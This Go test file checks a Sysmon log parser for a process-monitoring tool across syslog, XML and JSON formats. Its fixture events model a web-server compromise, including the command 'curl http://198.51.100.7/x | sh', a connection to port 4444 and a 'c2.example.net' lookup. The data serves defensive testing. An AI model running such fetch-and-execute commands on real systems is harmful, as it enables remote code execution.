package replay

import (
	"net/netip"
	"os"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/procwall/procwall/source"
)

func utc(t testing.TB, s string) time.Time {
	t.Helper()
	ts, err := time.Parse("2006-01-02 15:04:05.999999999", s)
	if err != nil {
		t.Fatal(err)
	}
	return ts
}

func TestSysmonSyslog(t *testing.T) {
	r, err := Open([]string{"testdata/sysmon_syslog.log"})
	if err != nil {
		t.Fatal(err)
	}
	evs, err := readAll(t, r)
	if err != nil {
		t.Fatal(err)
	}
	const bash, nginx = "{4d5b0b3a-2b39-637f-d1b2-5a1a3f550000}", "{4d5b0b3a-2b00-637f-a1b2-5a1a3f550000}"
	const f = "testdata/sysmon_syslog.log:"
	want := []source.Event{
		{Time: utc(t, "2022-11-24 08:30:01.467"), Kind: source.KindExec, PID: 2345, GUID: bash,
			PPID: 1200, ParentGUID: nginx, ParentExe: "/usr/sbin/nginx", ParentArgv: []string{"nginx:", "worker", "process"},
			Exe: "/usr/bin/bash", Argv: []string{"bash", "-c", "id; uname -a"}, Cwd: "/var/www", UID: 33, HasUID: true, Origin: f + "2"},
		{Time: utc(t, "2022-11-24 08:30:02.100"), Kind: source.KindConnect, PID: 2345, GUID: bash, Proto: source.ProtoTCP,
			Src: netip.MustParseAddrPort("192.0.2.10:49152"), Dst: netip.MustParseAddrPort("198.51.100.7:4444"), Origin: f + "3"},
		{Time: utc(t, "2022-11-24 08:30:03"), Kind: source.KindAccept, PID: 1200, GUID: nginx, Proto: source.ProtoTCP,
			Src: netip.MustParseAddrPort("[2001:db8::1]:443"), Dst: netip.MustParseAddrPort("[2001:db8::99]:51000"), Origin: f + "4"},
		{Time: utc(t, "2022-11-24 08:30:04"), Kind: source.KindDNS, PID: 2345, GUID: bash, Query: "example.net",
			Answers: []netip.Addr{netip.MustParseAddr("93.184.216.34"), netip.MustParseAddr("2001:db8::34")}, Origin: f + "5"},
		{Time: utc(t, "2022-11-24 08:30:05"), Kind: source.KindFile, PID: 2345, GUID: bash, Path: "/tmp/.x/payload", Op: "create", Origin: f + "6"},
		{Time: utc(t, "2022-11-24 08:30:07"), Kind: source.KindFile, PID: 2345, GUID: bash, Path: "/tmp/.x/payload", Op: "delete", Origin: f + "8"},
		{Time: utc(t, "2022-11-24 08:30:09"), Kind: source.KindExit, PID: 2345, GUID: bash, Origin: f + "10"},
	}
	if len(evs) != len(want) {
		t.Fatalf("got %d events, want %d: %+v", len(evs), len(want), evs)
	}
	for i := range want {
		if !reflect.DeepEqual(evs[i], want[i]) {
			t.Errorf("event %d:\n got %+v\nwant %+v", i, evs[i], want[i])
		}
	}
	st := r.Stats()
	if !reflect.DeepEqual(st.Skipped, map[int]int{4: 2, 16: 1}) || st.OtherLines != 1 || st.Lines != 11 ||
		st.Events != 7 || st.ParseErrors != 0 || st.Inputs[0].Format != FormatSysmon {
		t.Errorf("stats %+v", st)
	}
	if len(r.Errors()) != 0 {
		t.Errorf("errors %v", r.Errors())
	}
}

// xmlExec is one ProcessCreate event in canonical order.
const xmlExec = `<Event><System><EventID>1</EventID><TimeCreated SystemTime="2022-11-24T08:30:01.5Z"/></System><EventData>` +
	`<Data Name="UtcTime">2022-11-24 08:30:01.467</Data><Data Name="ProcessGuid">{g-1}</Data><Data Name="ProcessId">2345</Data>` +
	`<Data Name="Image">/bin/sh</Data><Data Name="CommandLine">sh -c 'echo &quot;hi&quot; &amp;&amp; id'</Data>` +
	`<Data Name="CurrentDirectory">/tmp</Data><Data Name="User">root</Data><Data Name="ParentProcessGuid">{g-0}</Data>` +
	`<Data Name="ParentProcessId">1200</Data><Data Name="ParentImage">/usr/sbin/nginx</Data><Data Name="ParentCommandLine">nginx</Data></EventData></Event>`

func xmlExecWant(t testing.TB, origin string) source.Event {
	return source.Event{Time: utc(t, "2022-11-24 08:30:01.467"), Kind: source.KindExec, PID: 2345, GUID: "{g-1}",
		PPID: 1200, ParentGUID: "{g-0}", ParentExe: "/usr/sbin/nginx", ParentArgv: []string{"nginx"},
		Exe: "/bin/sh", Argv: []string{"sh", "-c", `echo "hi" && id`}, Cwd: "/tmp", UID: 0, HasUID: true, Origin: origin}
}

func TestSysmonXMLOrderAndExtraFields(t *testing.T) {
	variants := map[string]string{
		"canonical": xmlExec,
		"reordered": `<Event><EventData><Data Name="ParentCommandLine">nginx</Data><Data Name="ParentImage">/usr/sbin/nginx</Data>` +
			`<Data Name="ParentProcessId">1200</Data><Data Name="ParentProcessGuid">{g-0}</Data><Data Name="User">root</Data>` +
			`<Data Name="CurrentDirectory">/tmp</Data><Data Name="CommandLine">sh -c 'echo &quot;hi&quot; &amp;&amp; id'</Data>` +
			`<Data Name="Image">/bin/sh</Data><Data Name="ProcessId">2345</Data><Data Name="ProcessGuid">{g-1}</Data>` +
			`<Data Name="UtcTime">2022-11-24 08:30:01.467</Data></EventData>` +
			`<System><TimeCreated SystemTime="2022-11-24T08:30:01.5Z"/><EventID>1</EventID></System></Event>`,
		"extra fields and namespace": `<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System>` +
			`<Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID Qualifiers="0">1</EventID>` +
			`<Version>5</Version><Unknown a="b"><Deep>x</Deep></Unknown><TimeCreated SystemTime="2022-11-24T08:30:01.5Z"/></System>` +
			`<EventData><Data Name="RuleName">-</Data><Data Name="Hashes">SHA256=00</Data><Data Name="UtcTime">2022-11-24 08:30:01.467</Data>` +
			`<Data Name="ProcessGuid">{g-1}</Data><Data Name="ProcessId">2345</Data><Data Name="FutureField">whatever</Data>` +
			`<Data Name="Image">/bin/sh</Data><Data Name="CommandLine">sh -c 'echo &quot;hi&quot; &amp;&amp; id'</Data>` +
			`<Data Name="CurrentDirectory">/tmp</Data><Data Name="User">root</Data><Data Name="ParentProcessGuid">{g-0}</Data>` +
			`<Data Name="ParentProcessId">1200</Data><Data Name="ParentImage">/usr/sbin/nginx</Data><Data Name="ParentCommandLine">nginx</Data>` +
			`<Data Name="ParentUser">root</Data></EventData><RenderingInfo Culture="en-US"><Message>x</Message></RenderingInfo></Event>`,
		"case and whitespace": `<Event>
  <System>
    <EventID> 1 </EventID>
  </System>
  <EventData>
    <Data Name="utctime">2022-11-24 08:30:01.467</Data>
    <Data Name="processguid">{g-1}</Data><Data Name="PROCESSID">2345</Data>
    <Data Name="Image">/bin/sh</Data><Data Name="CommandLine">sh -c 'echo &quot;hi&quot; &amp;&amp; id'</Data>
    <Data Name="CurrentDirectory">/tmp</Data><Data Name="User">root</Data><Data Name="ParentProcessGuid">{g-0}</Data>
    <Data Name="ParentProcessId">1200</Data><Data Name="ParentImage">/usr/sbin/nginx</Data><Data Name="ParentCommandLine">nginx</Data>
  </EventData>
</Event>`,
	}
	for name, x := range variants {
		t.Run(name, func(t *testing.T) {
			evs, err := readAll(t, New("x.xml", strings.NewReader("\n"+x+"\n")))
			if err != nil {
				t.Fatal(err)
			}
			if want := xmlExecWant(t, "x.xml:2"); len(evs) != 1 || !reflect.DeepEqual(evs[0], want) {
				t.Fatalf("got %+v\nwant %+v", evs, want)
			}
		})
	}
}

func TestSysmonXMLLayouts(t *testing.T) {
	exit := func(pid, sec string) string {
		return `<Event><System><EventID>5</EventID></System><EventData><Data Name="UtcTime">2022-11-24 08:30:0` + sec +
			`</Data><Data Name="ProcessId">` + pid + `</Data></EventData></Event>`
	}
	tests := []struct {
		name    string
		in      string
		origins []string
	}{
		{"one per line", exit("1", "1") + "\n" + exit("2", "2") + "\n", []string{"f:1", "f:2"}},
		{"concatenated", exit("1", "1") + exit("2", "2") + "  " + exit("3", "3") + "\n" + exit("4", "4"), []string{"f:1", "f:1", "f:1", "f:2"}},
		{"spanning lines", "<?xml version=\"1.0\"?>\n<Events>\n<Event>\n<System><EventID>5</EventID></System>\n<EventData>\n" +
			"<Data Name=\"UtcTime\">2022-11-24 08:30:01</Data>\n<Data Name=\"ProcessId\">1</Data></EventData>\n</Event>" + exit("2", "2") +
			"\n<Event><System><EventID>5</EventID></System><EventData><Data Name=\"UtcTime\">2022-11-24 08:30:03</Data>\n" +
			"<Data Name=\"ProcessId\">3</Data></EventData></Event>\n</Events>\n", []string{"f:3", "f:8", "f:9"}},
		{"syslog then spanning", "Nov 24 host sysmon: <Event><System><EventID>5</EventID></System>\n<EventData><Data Name=\"UtcTime\">" +
			"2022-11-24 08:30:01</Data><Data Name=\"ProcessId\">1</Data></EventData></Event>\n", []string{"f:1"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := New("f", strings.NewReader(tt.in), WithFormat(FormatSysmon))
			evs, err := readAll(t, r)
			if err != nil {
				t.Fatal(err)
			}
			var got []string
			for i, ev := range evs {
				got = append(got, ev.Origin)
				if ev.PID != i+1 || ev.Kind != source.KindExit {
					t.Errorf("event %d: %+v", i, ev)
				}
			}
			if !reflect.DeepEqual(got, tt.origins) {
				t.Errorf("origins %v, want %v", got, tt.origins)
			}
		})
	}
}

func TestSysmonJSON(t *testing.T) {
	// Seed 002's lower-case records. The seed's sample records ([0046],
	// [0047]) are figures missing from its text; testdata/seed002.jsonl is
	// built from the field names and event numbers its text lists.
	r, err := Open([]string{"testdata/seed002.jsonl"})
	if err != nil {
		t.Fatal(err)
	}
	evs, err := readAll(t, r)
	if err != nil {
		t.Fatal(err)
	}
	const f = "testdata/seed002.jsonl:"
	want := []source.Event{
		{Time: utc(t, "2022-11-24 08:30:00.100"), Kind: source.KindExec, PID: 1200, GUID: "n-1200", PPID: 1, ParentExe: "/sbin/init",
			ParentArgv: []string{"/sbin/init"}, Exe: "/usr/sbin/nginx", Argv: []string{"nginx:", "master", "process", "/usr/sbin/nginx"}, Origin: f + "1"},
		{Time: utc(t, "2022-11-24 08:30:01.467"), Kind: source.KindExec, PID: 2345, GUID: "n-2345", PPID: 1200, ParentExe: "/usr/sbin/nginx",
			ParentArgv: []string{"nginx:", "master", "process", "/usr/sbin/nginx"}, Exe: "/bin/sh",
			Argv: []string{"sh", "-c", "curl http://198.51.100.7/x | sh"}, Origin: f + "2"},
		{Time: utc(t, "2022-11-24 08:30:01.900"), Kind: source.KindConnect, PID: 2345, GUID: "n-2345", Proto: source.ProtoTCP,
			Dst: netip.MustParseAddrPort("198.51.100.7:80"), Origin: f + "3"},
		{Time: utc(t, "2022-11-24 08:30:02"), Kind: source.KindFile, PID: 2345, GUID: "n-2345", Path: "/tmp/x", Op: "create", Origin: f + "4"},
		{Time: utc(t, "2022-11-24 08:30:02.500"), Kind: source.KindDNS, PID: 2345, GUID: "n-2345", Query: "c2.example.net",
			Answers: []netip.Addr{netip.MustParseAddr("203.0.113.5")}, Origin: f + "5"},
	}
	if !reflect.DeepEqual(evs, want) {
		for i := range min(len(evs), len(want)) {
			if !reflect.DeepEqual(evs[i], want[i]) {
				t.Errorf("event %d:\n got %+v\nwant %+v", i, evs[i], want[i])
			}
		}
		t.Fatalf("got %d events, want %d", len(evs), len(want))
	}
	if r.Stats().Inputs[0].Format != FormatSysmon {
		t.Error("seed 002 records not detected as sysmon")
	}

	// Sysmon's own spelling, upper case, and nested objects.
	in := `{"EventID":3,"UtcTime":"2022-11-24 08:30:02.100","ProcessGuid":"{g}","ProcessId":"2345","Protocol":"udp","Initiated":"True",` +
		`"SourceIp":"192.0.2.1","SourcePort":"5353","DestinationIp":"::ffff:198.51.100.8","DestinationPort":"53"}` + "\n" +
		`{"EVENTID":"5","UTCTIME":"2022-11-24T08:30:03Z","PROCESSID":2345,"PROCESSGUID":"{g}"}` + "\n" +
		`{"Event":{"System":{"EventID":3},"EventData":{"UtcTime":"2022-11-24 08:30:04","ProcessId":7,"Initiated":false,` +
		`"SourceIp":"203.0.113.9","SourcePort":40000,"DestinationIp":"192.0.2.1","DestinationPort":22,"Protocol":"tcp","Extra":[1,2],"Null":null}}}` + "\n"
	evs, err = readAll(t, New("s.json", strings.NewReader(in)))
	if err != nil {
		t.Fatal(err)
	}
	want = []source.Event{
		{Time: utc(t, "2022-11-24 08:30:02.100"), Kind: source.KindConnect, PID: 2345, GUID: "{g}", Proto: source.ProtoUDP,
			Src: netip.MustParseAddrPort("192.0.2.1:5353"), Dst: netip.MustParseAddrPort("198.51.100.8:53"), Origin: "s.json:1"},
		{Time: utc(t, "2022-11-24 08:30:03"), Kind: source.KindExit, PID: 2345, GUID: "{g}", Origin: "s.json:2"},
		{Time: utc(t, "2022-11-24 08:30:04"), Kind: source.KindAccept, PID: 7, Proto: source.ProtoTCP,
			Src: netip.MustParseAddrPort("192.0.2.1:22"), Dst: netip.MustParseAddrPort("203.0.113.9:40000"), Origin: "s.json:3"},
	}
	if !reflect.DeepEqual(evs, want) {
		t.Errorf("got  %+v\nwant %+v", evs, want)
	}
}

func TestSysmonBad(t *testing.T) {
	good := `<Event><System><EventID>5</EventID></System><EventData><Data Name="UtcTime">2022-11-24 08:30:01</Data><Data Name="ProcessId">1</Data></EventData></Event>`
	ev := func(id, data string) string {
		return `<Event><System><EventID>` + id + `</EventID></System><EventData>` + data + `</EventData></Event>`
	}
	const ts = `<Data Name="UtcTime">2022-11-24 08:30:01</Data>`
	const pid = `<Data Name="ProcessId">9</Data>`
	tests := []struct {
		name    string
		lines   string // starting at line 2, after a good event on line 1
		line    int    // the error's line
		before  int    // events before the error in strict mode, if not 1
		field   string
		is      error
		contain string
	}{
		{"XML garbage", "<Event><System><EventID>1</EventID></Syst></Event>", 2, 0, "", ErrMalformed, "malformed XML"},
		{"not an event", "<Foo>bar</Foo>", 2, 0, "", ErrMalformed, "no <Event>"},
		{"unclosed before next", "<Event><System>\n" + good, 2, 0, "", ErrMalformed, "not closed before the next"},
		{"text after event", good + " trailing junk", 2, 2, "", ErrMalformed, "unexpected text after </Event>"},
		{"missing EventID", ev("", ts+pid), 2, 0, "EventID", ErrInvalid, "missing"},
		{"bad EventID", ev("one", ts+pid), 2, 0, "EventID", ErrInvalid, `"one"`},
		{"missing UtcTime", ev("5", pid), 2, 0, "UtcTime", ErrInvalid, "missing"},
		{"bad UtcTime", ev("5", `<Data Name="UtcTime">24/11/2022</Data>`+pid), 2, 0, "UtcTime", ErrInvalid, `"24/11/2022"`},
		{"missing ProcessId", ev("5", ts), 2, 0, "ProcessId", ErrInvalid, "missing"},
		{"bad ProcessId", ev("5", ts+`<Data Name="ProcessId">abc</Data>`), 2, 0, "ProcessId", ErrInvalid, `"abc"`},
		{"ProcessId 0", ev("5", ts+`<Data Name="ProcessId">0</Data>`), 2, 0, "ProcessId", ErrInvalid, "have 0"},
		{"bad ParentProcessId", ev("1", ts+pid+`<Data Name="ParentProcessId">x</Data>`), 2, 0, "ParentProcessId", ErrInvalid, `"x"`},
		{"self parent", ev("1", ts+pid+`<Data Name="ParentProcessId">9</Data>`), 2, 0, "", ErrInvalid, "names itself"},
		{"connect missing dst", ev("3", ts+pid+`<Data Name="Initiated">true</Data>`), 2, 0, "DestinationIp", ErrInvalid, "missing"},
		{"accept missing src", ev("3", ts+pid+`<Data Name="Initiated">false</Data><Data Name="DestinationIp">192.0.2.1</Data>`), 2, 0, "SourceIp", ErrInvalid, "missing"},
		{"bad DestinationIp", ev("3", ts+pid+`<Data Name="DestinationIp">999.1.1.1</Data>`), 2, 0, "DestinationIp", ErrInvalid, `"999.1.1.1"`},
		{"bad DestinationPort", ev("3", ts+pid+`<Data Name="DestinationIp">192.0.2.1</Data><Data Name="DestinationPort">70000</Data>`), 2, 0, "DestinationPort", ErrInvalid, `"70000"`},
		{"bad Initiated", ev("3", ts+pid+`<Data Name="Initiated">maybe</Data>`), 2, 0, "Initiated", ErrInvalid, `"maybe"`},
		{"bad Protocol", ev("3", ts+pid+`<Data Name="Protocol">quic?</Data><Data Name="DestinationIp">192.0.2.1</Data>`), 2, 0, "Protocol", ErrInvalid, `"quic?"`},
		{"missing TargetFilename", ev("11", ts+pid), 2, 0, "TargetFilename", ErrInvalid, "missing"},
		{"missing QueryName", ev("22", ts+pid), 2, 0, "QueryName", ErrInvalid, "missing"},
		{"spanning error at start line", "\n<Event>\n<System><EventID>5</EventID></System>\n<EventData>" + ts + "</EventData></Event>", 3, 0, "ProcessId", ErrInvalid, "missing"},
		{"malformed JSON", `{"EventID":1,`, 2, 0, "", ErrMalformed, "malformed JSON"},
		{"JSON text after object", `{"EventID":5} {}`, 2, 0, "", ErrMalformed, "after the object"},
		{"JSON without event id", `{"UtcTime":"2022-11-24 08:30:01","ProcessId":1}`, 2, 0, "EventID", ErrInvalid, "missing"},
		{"JSON bad pid", `{"eventnum":5,"utctime":"2022-11-24 08:30:01","processid":"x1"}`, 2, 0, "ProcessId", ErrInvalid, `"x1"`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			in := good + "\n" + tt.lines + "\n" + strings.ReplaceAll(good, ">1<", ">2<") + "\n"
			r := New("s.log", strings.NewReader(in), WithFormat(FormatSysmon))
			evs, err := readAll(t, r)
			if tt.before == 0 {
				tt.before = 1
			}
			if len(evs) != tt.before {
				t.Errorf("strict: %d events before the error, want %d", len(evs), tt.before)
			}
			checkParseError(t, err, "s.log", tt.line, tt.field, tt.is, tt.contain)

			r = New("s.log", strings.NewReader(in), WithFormat(FormatSysmon), WithLenient(true))
			evs, err = readAll(t, r)
			if err != nil {
				t.Fatal(err)
			}
			if n := len(evs); n < 2 || evs[0].PID != 1 || evs[n-1].PID != 2 {
				t.Errorf("lenient: events %+v, want the first and the last good events", evs)
			}
			if errs := r.Errors(); len(errs) != 1 {
				t.Errorf("lenient errors %v, want 1", errs)
			} else {
				checkParseError(t, errs[0], "s.log", tt.line, tt.field, tt.is, tt.contain)
			}
		})
	}
}

func TestSysmonUnterminated(t *testing.T) {
	r := New("u.log", strings.NewReader("a syslog line\n<Event><System>\n<EventID>1</EventID>\n"), WithFormat(FormatSysmon), WithLenient(true))
	evs, err := readAll(t, r)
	if err != nil || len(evs) != 0 {
		t.Fatalf("%v %v", evs, err)
	}
	errs := r.Errors()
	if len(errs) != 1 {
		t.Fatalf("errors %v", errs)
	}
	checkParseError(t, errs[0], "u.log", 2, "", ErrMalformed, "not closed at end of input")

	r = New("u.log", strings.NewReader("<Event>"+strings.Repeat("<System></System>\n", 20)+"</Event>\n"+
		`<Event><System><EventID>5</EventID></System><EventData><Data Name="UtcTime">2022-11-24 08:30:01</Data><Data Name="ProcessId">1</Data></EventData></Event>`),
		WithFormat(FormatSysmon), WithLenient(true), withMaxLine(200))
	evs, err = readAll(t, r)
	if err != nil || len(evs) != 1 || evs[0].Origin != "u.log:22" {
		t.Fatalf("%+v %v", evs, err)
	}
	if errs := r.Errors(); len(errs) == 0 {
		t.Fatal("no error for an over-long event")
	} else {
		checkParseError(t, errs[0], "u.log", 1, "", ErrLineTooLong, "not closed within 200 bytes")
	}
}

func TestParseQueryResults(t *testing.T) {
	got := parseQueryResults("::ffff:93.184.216.34;type:  5 example.net;2001:db8::1;;garbage; 192.0.2.1 ;")
	want := []netip.Addr{netip.MustParseAddr("93.184.216.34"), netip.MustParseAddr("2001:db8::1"), netip.MustParseAddr("192.0.2.1")}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("got %v, want %v", got, want)
	}
	if got := parseQueryResults("-"); got != nil {
		t.Errorf("got %v for -", got)
	}
}

func TestDetect(t *testing.T) {
	tests := []struct {
		name string
		in   string
		want Format
	}{
		{"native", "# c\n\n" + `{"ts":"2026-11-22T10:00:00Z","type":"exit","pid":1}`, FormatNative},
		{"syslog", "Nov 24 h sysmon: <Event><System><EventID>4</EventID></System></Event>", FormatSysmon},
		{"bare xml", "<Event>\n<System><EventID>4</EventID></System></Event>", FormatSysmon},
		{"xml prologue", "<?xml version=\"1.0\"?>\n<Events>\n</Events>", FormatSysmon},
		{"sysmon json", `{"EventID":4}`, FormatSysmon},
		{"seed 002 json", `{"eventnum":4}`, FormatSysmon},
		{"nested sysmon json", `{"Event":{"System":{"EventID":4}}}`, FormatSysmon},
		{"empty", "", FormatAuto},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := New("d", strings.NewReader(tt.in), WithLenient(true))
			if _, err := readAll(t, r); err != nil {
				t.Fatal(err)
			}
			if got := r.Stats().Inputs[0].Format; got != tt.want {
				t.Errorf("format %v, want %v", got, tt.want)
			}
			if errs := r.Errors(); len(errs) != 0 {
				t.Errorf("errors %v", errs)
			}
		})
	}
	// An unrecognised file is read as native and reported.
	_, err := readAll(t, New("junk", strings.NewReader("hello\n")))
	checkParseError(t, err, "junk", 1, "", ErrMalformed, "malformed JSON")
	// The format can be forced.
	_, err = readAll(t, New("forced", strings.NewReader(`{"EventID":5}`), WithFormat(FormatNative)))
	checkParseError(t, err, "forced", 1, "ts", ErrInvalid, "missing")
	_, err = readAll(t, New("forced", strings.NewReader(`{"ts":"2026-11-22T10:00:00Z","type":"exit","pid":1}`), WithFormat(FormatSysmon)))
	checkParseError(t, err, "forced", 1, "EventID", ErrInvalid, "missing")
}

func TestParseFormat(t *testing.T) {
	for s, want := range map[string]Format{"auto": FormatAuto, "": FormatAuto, "native": FormatNative, "SYSMON": FormatSysmon} {
		if got, err := ParseFormat(s); err != nil || got != want {
			t.Errorf("ParseFormat(%q) = %v, %v", s, got, err)
		}
		if want != FormatAuto || s == "auto" {
			if got, _ := ParseFormat(want.String()); got != want {
				t.Errorf("String/Parse round trip of %v", want)
			}
		}
	}
	if _, err := ParseFormat("evtx"); err == nil || !strings.Contains(err.Error(), `"evtx"`) {
		t.Errorf("ParseFormat(evtx) = %v", err)
	}
}

func TestOpenErrors(t *testing.T) {
	if _, err := Open(nil); err == nil {
		t.Error("Open(nil) succeeded")
	}
	_, err := Open([]string{"testdata/example.jsonl", "testdata/does-not-exist"})
	if err == nil || !os.IsNotExist(unwrapAll(err)) || !strings.Contains(err.Error(), "does-not-exist") {
		t.Errorf("Open of a missing file: %v", err)
	}
}

func unwrapAll(err error) error {
	for {
		u, ok := err.(interface{ Unwrap() error })
		if !ok {
			return err
		}
		err = u.Unwrap()
	}
}

func TestDetectLooksPastUndecisiveLines(t *testing.T) {
	in := "hello\nworld\n" + `{"ts":"2026-11-22T10:00:00Z","type":"exit","pid":1}` + "\n"
	r := New("j", strings.NewReader(in), WithLenient(true))
	evs, err := readAll(t, r)
	if err != nil || len(evs) != 1 || evs[0].Origin != "j:3" {
		t.Fatalf("%+v %v", evs, err)
	}
	errs := r.Errors()
	if len(errs) != 2 {
		t.Fatalf("errors %v", errs)
	}
	checkParseError(t, errs[0], "j", 1, "", ErrMalformed, "malformed JSON")
	checkParseError(t, errs[1], "j", 2, "", ErrMalformed, "malformed JSON")
	if f := r.Stats().Inputs[0].Format; f != FormatNative {
		t.Errorf("format %v", f)
	}
	// Only undecisive lines: settles on native at the end.
	r = New("k", strings.NewReader(strings.Repeat("syslog line\n", 3)), WithLenient(true))
	if _, err := readAll(t, r); err != nil || len(r.Errors()) != 3 {
		t.Fatalf("%v %v", err, r.Errors())
	}
}
